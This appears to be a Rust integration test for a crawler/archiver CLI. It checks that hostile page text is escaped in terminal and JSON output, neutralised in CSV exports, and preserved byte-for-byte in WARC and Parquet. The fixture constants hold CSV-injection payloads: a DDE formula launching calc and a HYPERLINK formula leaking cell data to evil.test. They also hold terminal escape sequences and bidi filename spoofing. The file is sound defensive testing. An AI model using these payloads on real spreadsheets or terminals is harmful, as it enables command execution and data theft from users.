//! Hostile text through the real binary: a page whose title and body carry bidi overrides,
//! terminal escapes and spreadsheet formulas. Table and JSON output never print them raw, a
//! CSV export opened as text shows the formula cells neutralised (unless `--csv-raw`), and
//! WARC and Parquet keep the bytes exactly.

mod common;

use std::fs::File;

use arrow_array::cast::AsArray;
use common::fixture::{article, config, FixtureServer, Reply};
use common::{text, trawl};
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;

const TITLE: &str =
    "=cmd|' /C calc'!A0 \u{202E}gnp.exe\u{202C} \u{1b}[2J\u{1b}[31mred\u{9b}1m \u{2066}x\u{2069}";
const BODY: [&str; 4] = [
    "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"click me for the full story\")",
    "+1+2 and a paragraph that goes on long enough to be a real article body, in plain words.",
    "@SUM(1,2) \u{7}bell \u{1b}]0;pwned\u{7} and -3 at the end \u{202E}reversed",
    "-5 degrees tonight, says the forecast, which is a perfectly ordinary sentence to begin with.",
];

/// Every character that must never reach a terminal raw.
fn raw_unsafe(s: &str) -> Option<char> {
    s.chars().find(|&c| {
        (c.is_control() && c != '\n' && c != '\t' && c != '\r')
            || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
    })
}

fn crawled() -> (tempfile::TempDir, std::path::PathBuf) {
    let server = FixtureServer::start(|_, path| match path {
        "/" => Reply::html("<a href=/a/1.html>story</a>"),
        "/a/1.html" => Reply::html(article(TITLE, &BODY)),
        _ => Reply::not_found(),
    });
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("site.toml");
    std::fs::write(&cfg, config(&[], "")).unwrap();
    let store = dir.path().join("store");
    let pin = format!("site.test={}", server.addr);
    let out = trawl(
        &[
            "crawl",
            "--config",
            cfg.to_str().unwrap(),
            "--resolve",
            &pin,
        ],
        &store,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    (dir, store)
}

const URL: &str = "http://site.test/a/1.html";

#[test]
fn table_and_json_output_escape_controls_and_bidi() {
    let (_dir, store) = crawled();
    let json = trawl(&["get", URL, "--format", "json"], &store);
    assert!(json.status.success(), "{}", text(&json.stderr));
    let view: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    // The archive holds the text as the page had it (this test is not vacuous) ...
    assert_eq!(view["record"]["canonical"]["title"], TITLE, "{view}");
    // ... and yet no output prints it raw.
    let commands: Vec<Vec<&str>> = vec![
        vec!["get", URL],
        vec!["get", URL, "--format", "json"],
        vec!["list"],
        vec!["list", "--format", "json"],
        vec!["search", "forecast"],
        vec!["search", "forecast", "--format", "json"],
        vec!["dupes"],
        vec!["dupes", "--format", "json"],
        vec!["history", URL],
        vec!["history", URL, "--format", "json"],
        vec!["stats"],
        vec!["export", "--format", "jsonl"],
    ];
    for args in commands {
        let out = trawl(&args, &store);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let s = text(bytes);
            assert_eq!(
                raw_unsafe(&s),
                None,
                "{args:?} {stream} printed it raw: {s}"
            );
        }
    }
    let table = text(&trawl(&["get", URL], &store).stdout);
    assert!(table.contains("\\u{202e}gnp.exe"), "{table}");
    let json = text(&json.stdout);
    assert!(
        json.contains("\\u202egnp.exe") && json.contains("\\u001b[2J"),
        "{json}"
    );
}

#[test]
fn csv_export_neutralises_formula_cells_unless_raw() {
    let (dir, store) = crawled();
    let path = dir.path().join("out.csv");
    let out = trawl(
        &["export", "--format", "csv", "--out", path.to_str().unwrap()],
        &store,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    // Opened as text: the cells start with a quote, so a spreadsheet shows them as text.
    let csv_text = std::fs::read_to_string(&path).unwrap();
    assert!(csv_text.contains("'=cmd|"), "{csv_text}");
    assert!(csv_text.contains("\"'=HYPERLINK("), "{csv_text}");
    let mut reader = csv::Reader::from_path(&path).unwrap();
    let headers = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| {
        row.get(headers.iter().position(|h| h == name).unwrap())
            .unwrap()
    };
    assert_eq!(cell("title"), format!("'{TITLE}"));
    assert_eq!(cell("body"), format!("'{}", BODY.join("\n")));
    for field in row.iter() {
        assert!(
            !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "formula cell left as is: {field:?}"
        );
    }

    let raw_path = dir.path().join("raw.csv");
    let out = trawl(
        &[
            "export",
            "--format",
            "csv",
            "--csv-raw",
            "--out",
            raw_path.to_str().unwrap(),
        ],
        &store,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mut reader = csv::Reader::from_path(&raw_path).unwrap();
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(
        row.get(headers.iter().position(|h| h == "title").unwrap()),
        Some(TITLE)
    );

    let wrong = trawl(&["export", "--format", "jsonl", "--csv-raw"], &store);
    assert_eq!(wrong.status.code(), Some(2), "{}", text(&wrong.stderr));
}

#[test]
fn warc_and_parquet_keep_the_bytes_exact() {
    let (dir, store) = crawled();
    let warc = dir.path().join("out.warc");
    let out = trawl(
        &[
            "export",
            "--format",
            "warc",
            "--out",
            warc.to_str().unwrap(),
        ],
        &store,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let bytes = std::fs::read(&warc).unwrap();
    let page = article(TITLE, &BODY);
    assert!(
        bytes.windows(page.len()).any(|w| w == page.as_bytes()),
        "the WARC response must hold the page byte for byte"
    );

    let pq = dir.path().join("out.parquet");
    let out = trawl(
        &[
            "export",
            "--format",
            "parquet",
            "--out",
            pq.to_str().unwrap(),
        ],
        &store,
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let reader = ParquetRecordBatchReaderBuilder::try_new(File::open(&pq).unwrap())
        .unwrap()
        .build()
        .unwrap();
    let mut rows = 0;
    for batch in reader {
        let batch = batch.unwrap();
        let schema = batch.schema();
        let titles = batch.column(schema.index_of("title").unwrap()).clone();
        let bodies = batch.column(schema.index_of("body").unwrap()).clone();
        for i in 0..batch.num_rows() {
            assert_eq!(titles.as_string::<i32>().value(i), TITLE);
            assert_eq!(bodies.as_string::<i32>().value(i), BODY.join("\n"));
            rows += 1;
        }
    }
    assert_eq!(rows, 1);
}
